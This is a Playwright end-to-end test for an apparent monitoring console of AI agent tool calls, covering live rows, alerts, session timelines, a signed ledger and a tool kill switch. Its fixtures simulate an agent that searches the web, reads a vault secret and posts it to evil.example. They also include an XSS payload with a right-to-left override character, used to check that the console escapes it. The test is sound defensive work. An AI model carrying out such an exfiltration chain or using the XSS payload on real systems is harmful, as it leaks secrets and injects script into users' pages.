/** The page as the real service serves it: events sent over HTTP become rows, an alert, a timeline; a kill is set and lifted. */
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { createInterface } from 'node:readline';
import { after, before, describe, it } from 'node:test';
import type { Page } from 'playwright-core';
import { findBrowser, startBrowser, type Browser, type OpenPage } from './browser.ts';
import { CONSOLE_DIR } from './fixture.ts';
import { LOADER } from '../../support/sources/words.ts';

const root = resolve(import.meta.dirname, '../../..');
const SHOTS = join(root, 'coverage/console');
const executable = findBrowser();
const SESSION = 'host-1/run <i>7</i>';
const HOSTILE_TOOL = '<img src=x onerror=alert(1)>\u202Etxt';
const START_TIMEOUT_MS = 120_000;
const ARRIVAL_TIMEOUT_MS = 60_000;

interface Service {
  readonly url: string;
  readonly dataDir: string;
  readonly process: ChildProcess;
}

async function startService(dataDir: string): Promise<Service> {
  const child = spawn(
    process.execPath,
    [...LOADER, join(root, 'services/cli/main.ts'), 'up', '--json', '--data', dataDir, '--port', '0'],
    { cwd: root, stdio: ['ignore', 'pipe', 'ignore'], env: { ...process.env, TRIPLINE_LOG_LEVEL: 'silent' } },
  );
  const timer = setTimeout(() => child.kill('SIGKILL'), START_TIMEOUT_MS);
  for await (const line of createInterface({ input: child.stdout })) {
    const message = JSON.parse(line) as { ready?: boolean; url?: string };
    if (message.ready !== true || message.url === undefined) continue;
    clearTimeout(timer);
    return { url: message.url, dataDir, process: child };
  }
  throw new Error('the service ended before it was ready');
}

/** A call as a producer without streams sends it: intent and result. */
function callEvents(index: number, fields: Readonly<Record<string, unknown>>): readonly string[] {
  const time = (offsetMs: number): string =>
    new Date(Date.now() - 10_000 + index * 1000 + offsetMs).toISOString();
  const shared = { v: 1, session: SESSION, agent: 'research-agent', callId: `call-${index}`, ...fields };
  return [
    JSON.stringify({ ...shared, kind: 'call.intent', time: time(0) }),
    JSON.stringify({ ...shared, kind: 'call.result', time: time(400), outcome: 'ok', durationMs: 400 }),
  ];
}

const ATTACK = [
  callEvents(0, { server: 'search', tool: 'web_search', args: { query: 'invoices' } }),
  callEvents(1, { server: 'vault', tool: 'read_secret', args: { name: 'db' } }),
  callEvents(2, { server: 'poster', tool: 'http_post', args: { url: 'https://evil.example/x' } }),
];
// A name with control or format characters: refused or kept, but never markup.
const HOSTILE = callEvents(3, { server: 'poster', tool: HOSTILE_TOOL });

async function send(service: Service, lines: readonly string[]): Promise<void> {
  const response = await fetch(`${service.url}/v1/events`, {
    method: 'POST',
    headers: {
      authorization: `Bearer ${readFileSync(join(service.dataDir, 'producer.token'), 'utf8').trim()}`,
      'content-type': 'application/x-ndjson',
    },
    body: `${lines.join('\n')}\n`,
  });
  assert.equal(response.status, 202, await response.text());
}

/** Loads the view again until it shows the text: rows reach the store a moment after the bus. */
async function waitForText(page: Page, view: string, text: string): Promise<void> {
  const deadline = Date.now() + ARRIVAL_TIMEOUT_MS;
  while (Date.now() < deadline) {
    await page.evaluate(`location.hash = '#/live'`);
    await page.evaluate(`location.hash = ${JSON.stringify(view)}`);
    const shown = page.locator('main').getByText(text).first();
    if (
      await shown.waitFor({ timeout: 3000 }).then(
        () => true,
        () => false,
      )
    )
      return;
  }
  assert.fail(`${view} never showed ${text}: ${await page.locator('main').innerText()}`);
}

describe('console of the real service', { skip: executable === undefined ? 'no browser' : false }, () => {
  const dataDir = mkdtempSync(join(tmpdir(), 'tripline-console-'));
  let service: Service;
  let browser: Browser;
  let opened: OpenPage;

  before(async () => {
    assert.ok(existsSync(join(CONSOLE_DIR, 'index.html')), 'dist/console is missing: npm run build:console');
    mkdirSync(SHOTS, { recursive: true });
    service = await startService(dataDir);
    browser = await startBrowser(executable ?? '');
    const token = readFileSync(join(dataDir, 'admin.token'), 'utf8').trim();
    opened = await browser.open(`${service.url}/#token=${token}`);
    await opened.page.getByText('live', { exact: true }).waitFor();
  });
  after(async () => {
    await browser.close();
    service.process.kill('SIGTERM');
    if (service.process.exitCode === null) await once(service.process, 'exit');
    rmSync(dataDir, { recursive: true, force: true });
  });

  it('shows the attack live, with the class and host that the service derived', async () => {
    const { page } = opened;
    await send(service, ATTACK.flat());
    await send(service, HOSTILE);
    await page.locator('tbody tr', { hasText: '<img' }).first().waitFor();
    const post = page.locator('tbody tr', { hasText: 'http_post' }).last();
    assert.match(await post.innerText(), /external_post[\s\S]*evil\.example/);
    assert.equal(await page.locator('main img').count(), 0);
    await page.screenshot({ path: join(SHOTS, 'service-live.png') });
  });

  it('shows the alert with its chain, and the session with its steps marked', async () => {
    const { page } = opened;
    await waitForText(page, '#/alerts', 'Web search, then vault read');
    await page.screenshot({ path: join(SHOTS, 'service-alerts.png') });
    const card = page.locator('.alert-card', { hasText: 'Web search, then vault read' });
    assert.equal(await card.locator('.chain li').count(), 3);
    await card.locator('.chain a').last().click();
    await page.locator('.call-head[data-focus="true"]').waitFor();
    assert.equal(await page.locator('.call').count(), 4);
    assert.ok((await page.locator('h1').innerText()).includes('<i>7</i>'));
    await page.screenshot({ path: join(SHOTS, 'service-session.png') });
  });

  it('shows sessions and the signed ledger', async () => {
    const { page } = opened;
    await waitForText(page, '#/sessions', 'research-agent');
    await waitForText(page, '#/ledger', 'tripline.toolcalls.v1');
    assert.ok(Number(await page.locator('.figures dd').first().innerText()) >= 8);
    await page.screenshot({ path: join(SHOTS, 'service-ledger.png') });
  });

  it('sets a kill switch and lifts it', async () => {
    const { page } = opened;
    await page.evaluate(`location.hash = '#/controls'`);
    await page.getByLabel(/^Name of the tool/).fill('http_post');
    await page.getByLabel(/^Reason/).fill('posted a secret');
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await page.getByRole('dialog').getByRole('button', { name: 'Stop calls' }).click();
    const card = page.locator('.control-card', { hasText: 'posted a secret' });
    await card.waitFor();
    await page.screenshot({ path: join(SHOTS, 'service-controls.png') });
    await card.getByRole('button', { name: /^Lift/ }).click();
    await page
      .getByRole('dialog')
      .getByLabel(/^Reason/)
      .fill('mended');
    await page.getByRole('dialog').getByRole('button', { name: 'Lift' }).click();
    await card.waitFor({ state: 'detached' });
  });

  it('raised no complaint in the browser and asked no other origin', () => {
    assert.deepEqual(opened.complaints, []);
    assert.deepEqual([...new Set(opened.urls.map((url) => new URL(url).host))], [new URL(service.url).host]);
  });
});
